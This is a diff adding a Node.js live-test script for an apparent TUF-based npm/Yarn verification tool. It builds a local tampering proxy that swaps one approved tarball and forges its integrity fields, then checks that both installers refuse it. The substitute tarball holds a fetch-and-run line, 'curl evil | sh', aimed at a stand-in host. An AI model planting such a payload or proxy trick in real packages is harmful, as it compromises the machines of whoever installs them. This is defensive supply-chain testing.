@@ -1,0 +1,204 @@
+#!/usr/bin/env node
+// `npm run overlay:live` (opt-in, not part of npm test): overlay mode against the npm registry this machine
+// is configured with (`npm config get registry`), as a team would run it (docs/overlay.md):
+//  1. a project of well-known packages is installed with plain npm (its lockfile, and npm's cache warm);
+//  2. tufpm-overlay init --upstream <registry>, approve --lockfile package-lock.json (timed), and the
+//     yarn.lock plain Yarn writes for the same package.json;
+//  3. the metadata is served by a local static server (tufpm-overlay's, with the documented cache headers);
+//  4. tufpm-npm init --root-sha256 + tufpm-npm ci, and Yarn 4 with the tufpm plugin, install the tree;
+//  5. a local proxy in front of the registry serves other bytes for one approved tarball (and a packument
+//     whose integrity matches them): tufpm-npm and Yarn refuse it, the project untouched.
+// Prints the figures (packages, seconds, bytes of metadata). Exit 0 only when every expectation held.
+// Usage: node scripts/overlay-live.mjs [--big] [--keep]   (--big: a ~550-package tree; --keep: keep the temp dir)
+import { execFile } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { createServer } from 'node:http';
+import { copyFile, mkdir, mkdtemp, readFile, readdir, rm, stat, writeFile } from 'node:fs/promises';
+import { createRequire } from 'node:module';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { parseArgs } from 'node:util';
+
+const ROOT = fileURLToPath(new URL('..', import.meta.url));
+const require = createRequire(join(ROOT, 'integration-tests', 'package.json'));
+const { values: flags } = parseArgs({ options: { big: { type: 'boolean' }, keep: { type: 'boolean' } } });
+const NPM_CLI = join(dirname(process.execPath), '..', 'lib', 'node_modules', 'npm', 'bin', 'npm-cli.js');
+const YARN_JS = require.resolve('@yarnpkg/cli-dist/bin/yarn.js');
+const PLUGIN = join(ROOT, 'packages', 'yarn-plugin-tuf', 'bundles', '@yarnpkg', 'plugin-tuf.js');
+const OVERLAY = join(ROOT, 'packages', 'overlay', 'bin', 'tufpm-overlay.js');
+const TUFPM_NPM = join(ROOT, 'packages', 'npm', 'dist', 'src', 'cli.js');
+const TUFPM_REPO = join(ROOT, 'packages', 'repo', 'bin', 'tufpm-repo.js');
+const { serveMetadata } = await import(join(ROOT, 'packages', 'overlay', 'dist', 'src', 'index.js'));
+const { buildPackageTarball } = await import(join(ROOT, 'packages', 'registry', 'dist', 'src', 'index.js'));
+
+const DEPS = flags.big
+  ? { jest: '^29.7.0', webpack: '^5.90.0', eslint: '^8.57.0', typescript: '^5.4.0', express: '^4.19.0' }
+  : { express: '^4.19.0', chalk: '^4.1.2', commander: '^12.0.0', debug: '^4.3.4', semver: '^7.6.0' };
+
+const problems = [];
+const figures = {};
+const expect = (ok, what) => { if (!ok) problems.push(what); return ok; };
+const log = (s) => process.stderr.write(`${s}\n`);
+
+function run(file, args, cwd, env = {}) {
+  return new Promise((resolve) => {
+    const started = performance.now();
+    execFile(process.execPath, [file, ...args], { cwd, env: { ...process.env, ...env }, maxBuffer: 256 * 1024 * 1024 }, (error, stdout, stderr) => {
+      const code = error ? (typeof error.code === 'number' ? error.code : 1) : 0;
+      resolve({ code, stdout, stderr, seconds: Math.round((performance.now() - started) / 10) / 100 });
+    });
+  });
+}
+
+async function must(label, file, args, cwd, env) {
+  const r = await run(file, args, cwd, env);
+  if (r.code !== 0) throw new Error(`${label} failed (exit ${r.code})\n${r.stdout.slice(-3000)}${r.stderr.slice(-3000)}`);
+  log(`ok  ${label} (${r.seconds} s)`);
+  return r;
+}
+
+async function digestOf(dir, files) {
+  const h = createHash('sha256');
+  for (const f of files) {
+    try { h.update(f).update(await readFile(join(dir, f))); } catch (e) { if (e.code !== 'ENOENT') throw e; h.update(`${f}:missing`); }
+  }
+  try { h.update((await readdir(join(dir, 'node_modules'))).sort().join(',')); } catch (e) { if (e.code !== 'ENOENT') throw e; }
+  return h.digest('hex');
+}
+
+/** A proxy in front of the registry: packuments with tarball URLs pointing at itself, one tarball replaced. */
+async function tamperingProxy(upstream, victim) {
+  const evil = buildPackageTarball({ name: victim.name, version: victim.version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });
+  const evilIntegrity = `sha512-${createHash('sha512').update(evil).digest('base64')}`;
+  const server = createServer((req, res) => {
+    void (async () => {
+      const path = req.url ?? '/';
+      if (path === `/${victim.targetPath}`) {
+        res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': evil.length }).end(evil);
+        return;
+      }
+      const r = await fetch(`${upstream}${path.slice(1)}`, { headers: { accept: req.headers.accept ?? '*/*' } });
+      const type = r.headers.get('content-type') ?? 'application/octet-stream';
+      let body = Buffer.from(await r.arrayBuffer());
+      if (type.includes('json')) {
+        const doc = JSON.parse(body.toString('utf8'));
+        const entry = doc?.name === victim.name ? doc.versions?.[victim.version] : undefined;
+        if (entry?.dist) {
+          entry.dist.integrity = evilIntegrity;
+          entry.dist.shasum = createHash('sha1').update(evil).digest('hex');
+          delete entry.dist.signatures;
+        }
+        body = Buffer.from(JSON.stringify(doc).split(upstream).join(`http://127.0.0.1:${server.address().port}/`));
+      }
+      res.writeHead(r.status, { 'content-type': type, 'content-length': body.length }).end(body);
+    })().catch((error) => { res.writeHead(502).end(String(error)); });
+  });
+  await new Promise((r) => server.listen(0, '127.0.0.1', r));
+  return { url: `http://127.0.0.1:${server.address().port}/`, close: () => new Promise((r) => server.close(r)) };
+}
+
+const base = await mkdtemp(join(tmpdir(), 'tufpm-overlay-live-'));
+let metadata;
+let proxy;
+try {
+  const upstream = (await must('npm config get registry', NPM_CLI, ['config', 'get', 'registry'], base)).stdout.trim().replace(/\/?$/, '/');
+  figures.upstream = upstream;
+  // 1. the team's project today: plain npm against the registry (fills npm's cache too)
+  const team = join(base, 'team-project');
+  await mkdir(team);
+  await writeFile(join(team, 'package.json'), JSON.stringify({ name: 'team-app', version: '1.0.0', private: true, dependencies: DEPS }, null, 2));
+  await must('plain npm install', NPM_CLI, ['install', '--ignore-scripts', '--no-audit', '--no-fund'], team);
+  const lock = JSON.parse(await readFile(join(team, 'package-lock.json'), 'utf8'));
+  figures.packages = Object.keys(lock.packages).filter((k) => k !== '').length;
+
+  // 2. the overlay repository, a reviewer's key, the approval
+  const repo = join(base, 'team-tuf');
+  await must('tufpm-repo keygen', TUFPM_REPO, ['keygen', join(base, 'alice')], base);
+  const init = await must('tufpm-overlay init', OVERLAY, ['init', '--upstream', upstream, '--repo', repo, '--reviewer', join(base, 'alice.pub.json'), '--json'], base);
+  const rootSha256 = JSON.parse(init.stdout).rootSha256;
+  const approve = await must('tufpm-overlay approve (package-lock.json)', OVERLAY, ['approve', '--lockfile', join(team, 'package-lock.json'), '--repo', repo, '--key', join(base, 'alice.pem'), '--json'], base);
+  const approved = JSON.parse(approve.stdout);
+  figures.approve = { new: approved.new.length, unapprovable: approved.unapprovable.length, seconds: approved.seconds, wallSeconds: approve.seconds };
+  expect(approved.outcome === 'published', `approve published (${approved.outcome})`);
+
+  // plain Yarn's lockfile for the same package.json, approved too (what a Yarn team commits)
+  const yarnTeam = join(base, 'team-yarn');
+  await mkdir(yarnTeam);
+  await copyFile(join(team, 'package.json'), join(yarnTeam, 'package.json'));
+  const yarnrc = (extra) => [`yarnPath: ${JSON.stringify(YARN_JS)}`, `npmRegistryServer: ${JSON.stringify(upstream.replace(/\/$/, ''))}`, 'enableTelemetry: false', 'enableGlobalCache: false', `cacheFolder: ${JSON.stringify(join(base, 'yarn-cache'))}`, ...extra].join('\n') + '\n';
+  await writeFile(join(yarnTeam, '.yarnrc.yml'), yarnrc([]));
+  await must('plain yarn (lockfile only)', YARN_JS, ['install', '--mode=update-lockfile'], yarnTeam, { HOME: join(base, 'yarn-home') });
+  const approveYarn = await must('tufpm-overlay approve (yarn.lock)', OVERLAY, ['approve', '--lockfile', join(yarnTeam, 'yarn.lock'), '--repo', repo, '--key', join(base, 'alice.pem'), '--json'], base);
+  figures.approveYarnLock = { new: JSON.parse(approveYarn.stdout).new.length, approved: JSON.parse(approveYarn.stdout).approved.length };
+
+  // 3. serve the metadata
+  metadata = await serveMetadata(join(repo, 'metadata'));
+  let bytes = 0;
+  for (const f of await readdir(join(repo, 'metadata'))) bytes += (await stat(join(repo, 'metadata', f))).size;
+  const latestRole = (await readdir(join(repo, 'metadata'))).filter((f) => f.endsWith('._approved.json')).sort((a, b) => parseInt(b) - parseInt(a))[0];
+  figures.metadata = { directoryBytes: bytes, approvalRoleBytes: (await stat(join(repo, 'metadata', latestRole))).size };
+
+  // 4. installs verified against the team's repository
+  const npmProject = join(base, 'npm-project');
+  await mkdir(npmProject);
+  await copyFile(join(team, 'package.json'), join(npmProject, 'package.json'));
+  await copyFile(join(team, 'package-lock.json'), join(npmProject, 'package-lock.json'));
+  await writeFile(join(npmProject, '.npmrc'), `registry=${upstream}\ntufpm-metadata-url=${metadata.url}\n`);
+  await must('tufpm-npm init --root-sha256', TUFPM_NPM, ['init', '--root-sha256', rootSha256], npmProject);
+  const ci = await must('tufpm-npm ci', TUFPM_NPM, ['ci', '--ignore-scripts'], npmProject);
+  const plainCi = await must('plain npm ci (for comparison)', NPM_CLI, ['ci', '--ignore-scripts', '--no-audit', '--no-fund'], team);
+  figures.npm = { tufpmNpmCiSeconds: ci.seconds, plainNpmCiSeconds: plainCi.seconds };
+
+  const yarnProject = join(base, 'yarn-project');
+  await mkdir(yarnProject);
+  await copyFile(join(yarnTeam, 'package.json'), join(yarnProject, 'package.json'));
+  await copyFile(join(yarnTeam, 'yarn.lock'), join(yarnProject, 'yarn.lock'));
+  await copyFile(join(repo, 'metadata', '1.root.json'), join(yarnProject, 'tufpm-root.json'));
+  const pluginRc = [`tufMetadataUrl: ${JSON.stringify(metadata.url)}`, 'unsafeHttpWhitelist: ["127.0.0.1"]', 'plugins:', `  - path: ${JSON.stringify(PLUGIN)}`, '    spec: "@yarnpkg/plugin-tuf"'];
+  await writeFile(join(yarnProject, '.yarnrc.yml'), yarnrc(pluginRc));
+  const yarnInstall = await must('yarn install (tufpm plugin)', YARN_JS, ['install'], yarnProject, { HOME: join(base, 'yarn-home') });
+  figures.yarn = { installSeconds: yarnInstall.seconds };
+
+  // 5. one approved tarball, other bytes, through a proxy: both installs refuse it
+  const victimKey = Object.keys(lock.packages).find((k) => k.startsWith('node_modules/') && !k.slice(13).includes('node_modules/') && !k.slice(13).startsWith('@'));
+  const victimName = victimKey.slice('node_modules/'.length);
+  const victimVersion = lock.packages[victimKey].version;
+  const victim = { name: victimName, version: victimVersion, targetPath: `${victimName}/-/${victimName}-${victimVersion}.tgz` };
+  proxy = await tamperingProxy(upstream, victim);
+  figures.attack = { package: `${victim.name}@${victim.version}` };
+  const attacked = join(base, 'attacked-npm');
+  await mkdir(attacked);
+  await writeFile(join(attacked, 'package.json'), JSON.stringify({ name: 'attacked', version: '1.0.0', private: true, dependencies: { [victim.name]: victim.version } }, null, 2));
+  await writeFile(join(attacked, '.npmrc'), `registry=${proxy.url}\ntufpm-metadata-url=${metadata.url}\ncache=${join(base, 'attack-npm-cache')}\n`);
+  await copyFile(join(repo, 'metadata', '1.root.json'), join(attacked, 'tufpm-root.json'));
+  const before = await digestOf(attacked, ['package.json', 'package-lock.json', 'tufpm-lock.json']);
+  const refusedNpm = await run(TUFPM_NPM, ['install', '--ignore-scripts'], attacked);
+  const code = /TUF_[A-Z_]+/.exec(refusedNpm.stderr)?.[0];
+  figures.attack.tufpmNpm = code ?? `exit ${refusedNpm.code}`;
+  expect(refusedNpm.code === 1 && code === 'TUF_TARBALL_MISMATCH', `tufpm-npm refuses the replaced tarball (exit ${refusedNpm.code}, ${code})\n${refusedNpm.stderr.slice(-1500)}`);
+  expect(before === (await digestOf(attacked, ['package.json', 'package-lock.json', 'tufpm-lock.json'])), 'the npm project is unchanged');
+
+  const attackedYarn = join(base, 'attacked-yarn');
+  await mkdir(attackedYarn);
+  await copyFile(join(attacked, 'package.json'), join(attackedYarn, 'package.json'));
+  await copyFile(join(repo, 'metadata', '1.root.json'), join(attackedYarn, 'tufpm-root.json'));
+  await writeFile(join(attackedYarn, '.yarnrc.yml'), yarnrc(pluginRc).replace(/npmRegistryServer: .*/, `npmRegistryServer: ${JSON.stringify(proxy.url.replace(/\/$/, ''))}`).replace(/cacheFolder: .*/, `cacheFolder: ${JSON.stringify(join(base, 'attack-yarn-cache'))}`));
+  const beforeYarn = await digestOf(attackedYarn, ['yarn.lock', 'tufpm-lock.json', '.pnp.cjs']);
+  const refusedYarn = await run(YARN_JS, ['install'], attackedYarn, { HOME: join(base, 'attack-yarn-home') });
+  const yarnCode = /TUF_[A-Z_]+/.exec(refusedYarn.stdout)?.[0];
+  figures.attack.yarn = yarnCode ?? `exit ${refusedYarn.code}`;
+  expect(refusedYarn.code === 1 && yarnCode === 'TUF_TARBALL_MISMATCH', `Yarn refuses the replaced tarball (exit ${refusedYarn.code}, ${yarnCode})\n${refusedYarn.stdout.slice(-1500)}`);
+  expect(beforeYarn === (await digestOf(attackedYarn, ['yarn.lock', 'tufpm-lock.json', '.pnp.cjs'])), 'the Yarn project is unchanged');
+} catch (error) {
+  problems.push(error instanceof Error ? error.message : String(error));
+} finally {
+  await proxy?.close();
+  await metadata?.close();
+  if (!flags.keep) await rm(base, { recursive: true, force: true });
+  else log(`kept ${base}`);
+}
+process.stdout.write(`${JSON.stringify(figures, null, 2)}\n`);
+for (const p of problems) log(`FAILED: ${p}`);
+log(problems.length === 0 ? 'overlay:live passed' : `overlay:live: ${problems.length} problem(s)`);
+process.exitCode = problems.length === 0 ? 0 : 1;
